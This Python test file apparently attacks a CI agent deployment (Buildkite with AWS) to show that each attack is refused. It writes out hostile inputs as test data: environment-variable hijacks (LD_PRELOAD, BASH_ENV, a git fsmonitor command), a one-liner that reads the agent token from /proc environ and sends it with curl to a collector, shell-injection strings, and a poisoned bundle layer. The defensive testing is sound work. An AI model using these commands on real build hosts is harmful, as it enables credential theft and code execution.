"""Tokens, texts and code on their way to a job attacked, and all places searched for secrets."""

from __future__ import annotations

import base64
import hashlib
import io
import json
import re
import zipfile
from collections.abc import Iterator
from dataclasses import replace

import pytest

from attacks import hosts
from attacks.collector import Collector
from attacks.conftest import Seen
from attacks.rows import attack
from emulator.buildkite_client import Clock, Contract
from mayfly_lab.lab import STACK
from stories.stage import QUICK, Stage
from whole.output import lines
from whole.steps import HOLD

OPEN, FAULTY, ELSEWHERE = "open", "faulty", "elsewhere"
PARAMETERS: dict[str, dict[str, str]] = {
    OPEN: {},
    FAULTY: {"job/attempts": "1"},
}
FURTHER_QUEUES = (ELSEWHERE,)
DELAYS = replace(QUICK, minute=10.0)


# ---------------------------------------------------------------- on the host


@attack(
    "A step's environment sets BASH_ENV, LD_PRELOAD, PYTHONPATH, git's and Mayfly's variables",
    refused_by="the host",
    mechanism="the agent's environment is made by the supervisor; the pipeline's variables reach"
    " only processes of the job's user, and not the hook that checks the policy",
)
def test_a_steps_environment_reaches_no_process_of_root(
    stage: Stage, collector: Collector, seen: Seen
) -> None:
    hostile = {
        "BASH_ENV": "/var/lib/mayfly-job/evil",
        "LD_PRELOAD": "/var/lib/mayfly-job/evil.so",
        "PYTHONPATH": "/var/lib/mayfly-job",
        "PYTHONSTARTUP": "/var/lib/mayfly-job/evil",
        "GIT_SSH_COMMAND": "/var/lib/mayfly-job/evil",
        "GIT_CONFIG_COUNT": "1",
        "GIT_CONFIG_KEY_0": "core.fsmonitor",
        "GIT_CONFIG_VALUE_0": "echo fsmonitor ran as $(id -u) >>/tmp/ran; false",
        "BUILDKITE_HOOKS_PATH": "/var/lib/mayfly-job",
        "BUILDKITE_SHELL": "/bin/bash -e -c",
        "MAYFLY_POLICY": "/dev/null",
        "MAYFLY_HOOKS_DIR": "/var/lib/mayfly-job",
    }
    command = (
        "echo 'echo ran as $(id -u) >>/tmp/ran' >/var/lib/mayfly-job/evil\n"
        "bash -c true; git status >/dev/null; cat /tmp/ran | sort | uniq -c\n" + HOLD
    )
    job = stage.build("hostile", OPEN, command, env=hostile)
    host = stage.running(job)
    stage.until("the job waits", lambda: "up" in lines(stage.log_of(job)))
    ran = hosts.run(stage, host, "sort -u /tmp/ran; id -u mayfly-job").output.splitlines()
    uid = ran.pop()
    preload = "grep -lz -e LD_PRELOAD -e BASH_ENV /proc/[0-9]*/environ 2>/dev/null"
    users = hosts.run(stage, host, f"stat -c %U $({preload}) | sort -u").output.splitlines()
    hosts.run(stage, host, "touch /tmp/go")
    assert stage.ended(job).outcome == "passed", stage.log_of(job)
    assert set(ran) == {f"ran as {uid}", f"fsmonitor ran as {uid}"}
    assert users == ["mayfly-job"]
    assert "evil.so" not in stage.lab.room.console(host), "a process of root tried to load it"
    seen(f"what the variables name ran as {uid} alone; processes that have them: {users[0]}'s")


# ---------------------------------------------------------------- acquisition tokens


@pytest.fixture(scope="module")
def token(stage: Stage, collector: Collector) -> Iterator[tuple[str, str]]:
    """A running job, and its acquisition token, which its own code has sent out."""
    command = (
        "cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n'"
        f" | sed -n 's/^BUILDKITE_AGENT_TOKEN=//p' | head -1"
        f" | curl -s -d @- {collector.url}/token\n" + HOLD
    )
    job = stage.push(OPEN, command)
    host = stage.running(job)
    sent = stage.until("the token is out", lambda: collector.sent("/token"))
    yield job, sent[0].body.strip()
    hosts.run(stage, host, "touch /tmp/go")


@attack(
    "Job code sends its acquisition token out, and it is used for the same job again",
    refused_by="Buildkite",
    mechanism="a job has one agent; agents since 3.133 do not have the token in their environment",
)
def test_a_token_gets_its_job_once(stage: Stage, token: tuple[str, str], seen: Seen) -> None:
    job, text = token
    assert text == stage.lab.buildkite.issued_tokens()[-1], "the job has not read its token"
    client = Contract(stage.lab.buildkite, Clock())
    answer = client.agent(text, tags=(f"queue={OPEN}",)).acquire(job)
    assert answer.status_code == 422
    assert stage.job(job).outcome is None
    seen(f"the token registers an agent; the job again: HTTP {answer.status_code}")


@attack(
    "The token is used from another machine for another job, of its queue and of another one",
    refused_by="Buildkite",
    mechanism="a token is good for the job that it was minted for",
)
def test_a_token_gets_no_other_job(stage: Stage, token: tuple[str, str], seen: Seen) -> None:
    _, text = token
    client = Contract(stage.lab.buildkite, Clock())
    stage.lab.put_parameter(OPEN, "paused", "true")
    stage.until("the pause is in force", lambda: stage.in_force(OPEN).paused)
    others = {OPEN: stage.push(OPEN), ELSEWHERE: stage.push(ELSEWHERE)}
    answers = {
        queue: client.agent(text, tags=(f"queue={queue}",)).acquire(job).status_code
        for queue, job in others.items()
    }
    states = {queue: str(stage.job(job).state) for queue, job in others.items()}
    for job in others.values():
        stage.lab.buildkite.cancel_job(job)
    stage.lab.put_parameter(OPEN, "paused", "false")
    assert all(400 <= status < 500 for status in answers.values()), answers
    assert set(states.values()) == {"scheduled"}
    seen(f"another job of the queue: HTTP {answers[OPEN]}, of another: {answers[ELSEWHERE]}")


@attack(
    "The token is used after its job has ended",
    refused_by="Buildkite",
    mechanism="a token ends with its reservation",
)
def test_a_token_is_dead_after_its_job(stage: Stage, seen: Seen) -> None:
    job = stage.push(OPEN)
    assert stage.ended(job).outcome == "passed"
    minted = stage.lab.buildkite.issued_tokens()[-1]
    client = Contract(stage.lab.buildkite, Clock())
    late = client.registration(minted).status_code
    assert late == 401
    seen(f"registration after the end: HTTP {late}")


# ---------------------------------------------------------------- the bundle


_BUNDLE = f"/mayfly-infra/{STACK}/bundle"


def fails_with(stage: Stage, words: str, **changes: str) -> str:
    """Change the bundle's parameter, and let an instance boot. Returns the console's line."""
    ssm = stage.lab.aws.client("ssm")
    good = ssm.get_parameter(Name=_BUNDLE)["Parameter"]["Value"]
    before = len(stage.launched(FAULTY))
    poisoned = json.dumps({**json.loads(good), **changes})
    ssm.put_parameter(Name=_BUNDLE, Value=poisoned, Overwrite=True)
    try:
        job = stage.push(FAULTY)
        host = stage.until("an instance is launched", lambda: stage.launched(FAULTY)[before:])[0]
        console = stage.until(
            f"the console says {words}",
            lambda: found if words in (found := stage.lab.room.console(host)) else "",
        )
        stage.lab.buildkite.cancel_job(job)
        gone = stage.gone(host)
    finally:
        ssm.put_parameter(Name=_BUNDLE, Value=good, Overwrite=True)
    assert not gone.proven
    assert "supervisor" not in console
    assert "waiting for the sandbox profile" not in console
    return next(line for line in console.splitlines() if words in line)


@attack(
    "A poisoned bundle: the parameter names another SHA-256 than the layer's content has",
    refused_by="user data",
    mechanism="the host unpacks and starts nothing whose SHA-256 is not the parameter's",
)
def test_a_bundle_of_another_hash_never_runs(stage: Stage, seen: Seen) -> None:
    seen(fails_with(stage, "has a wrong SHA-256", sha256="0" * 64))


@attack(
    "A poisoned bundle: the parameter names a layer with an attacker's supervisor",
    refused_by="user data",
    mechanism="the SHA-256 beside the layer's name is the release's; both stand in one parameter,"
    " which only the stack's deployment may write",
)
def test_another_layer_never_runs(stage: Stage, seen: Seen) -> None:
    evil = io.BytesIO()
    with zipfile.ZipFile(evil, "w") as archive:
        archive.writestr("bundle/mayfly-instance.tar.gz", b"evil")
    published = stage.lab.aws.client("lambda").publish_layer_version(
        LayerName="evil", Content={"ZipFile": evil.getvalue()}
    )
    digest = hashlib.sha256(evil.getvalue()).digest()
    assert published["Content"]["CodeSha256"] == base64.b64encode(digest).decode()
    layer = published["LayerVersionArn"]
    seen(fails_with(stage, "has a wrong SHA-256", layer=layer))


# ---------------------------------------------------------------- texts


@attack(
    "A job's label, branch and variables with shell code, on a host that runs it",
    refused_by="the host",
    mechanism="the supervisor starts programs by lists of words, without a shell",
)
def test_texts_of_a_job_are_not_run_by_its_host(stage: Stage, seen: Seen) -> None:
    text = "$(touch /tmp/injected)`touch /tmp/injected`; touch /tmp/injected"
    command = f'echo "$TEXT" | grep -c touch\n{HOLD}'
    job = stage.build(
        "shell", OPEN, command, branch="feature", env={"TEXT": text}, label=text, key="shell"
    )
    host = stage.running(job)
    found = hosts.run(stage, host, "ls /tmp/injected /injected 2>/dev/null; touch /tmp/go").output
    assert stage.ended(job).outcome == "passed", stage.log_of(job)
    assert found == ""
    seen("the text came to the job as a value; nothing of it ran")


@attack(
    "A parameter of a queue with line ends, quotes and shell code",
    refused_by="provision",
    mechanism="every value is parsed to a known form; a bad one leaves the last good configuration",
)
def test_a_hostile_parameter_changes_nothing(stage: Stage, seen: Seen) -> None:
    before = stage.in_force(OPEN)
    hostile = {
        "tags": "disk=large\nqueue=guarded",
        "launch/instance-types": "m7i.large; touch /tmp/x",
        "agent/config": "hooks-path=/tmp\n",
        "bootstrap/script": "s3://mayfly-scripts/../other/x.sh $(id)",
    }
    refused: list[str] = []
    for name, value in hostile.items():
        stage.lab.put_parameter(OPEN, name, value)
        refused += stage.until("the queue has a problem", lambda: stage.queue(OPEN).problems)
        assert stage.in_force(OPEN) == before, name
        full = f"/mayfly/{STACK}/queues/{OPEN}/{name}"
        stage.lab.aws.client("ssm").delete_parameter(Name=full)
        stage.until("the queue has no problem", lambda: not stage.queue(OPEN).problems)
    seen(f"{len(hostile)} values refused, as: {refused[0][:80]}")


# ---------------------------------------------------------------- secrets everywhere


@attack(
    "After all of these: logs, consoles, records, calls, user data and last words are searched"
    " for the cluster's token, every acquisition token and every secret key that was issued",
    refused_by="every part",
    mechanism="secrets are held where they are used, and removed from text by shape and by value",
)
def test_no_secret_is_written_down_anywhere(stage: Stage, seen: Seen) -> None:
    stage.empty()
    evidence = stage.evidence()
    places = dict(evidence.texts)
    for instance in stage.lab.aws.ec2.instances.values():
        places[f"the user data of {instance.instance_id}"] = instance.user_data.decode()
    places["events and calls"] = "\n".join(str(entry) for entry in evidence.journal)
    mailbox = stage.lab.aws.client("dynamodb").scan(TableName=f"{STACK}-mailbox")["Items"]
    places["mailbox rows"] = str(mailbox)
    secrets = dict(evidence.secrets)
    for holder in stage.lab.aws.credentials._holders.values():
        secrets[f"the secret key of {holder.principal.userid}"] = holder.keys.secret_key
        secrets[f"the session token of {holder.principal.userid}"] = holder.keys.token
    own = re.compile("log of job")
    found = [
        (what, place)
        for what, secret in secrets.items()
        for place, text in places.items()
        if secret in text and not own.search(place)
    ]
    assert found == []
    assert any("mayfly: " in text for place, text in places.items() if "console" in place)
    size = sum(map(len, places.values()))
    seen(f"{len(secrets)} secrets, none in {len(places)} texts of {size >> 10} KB")
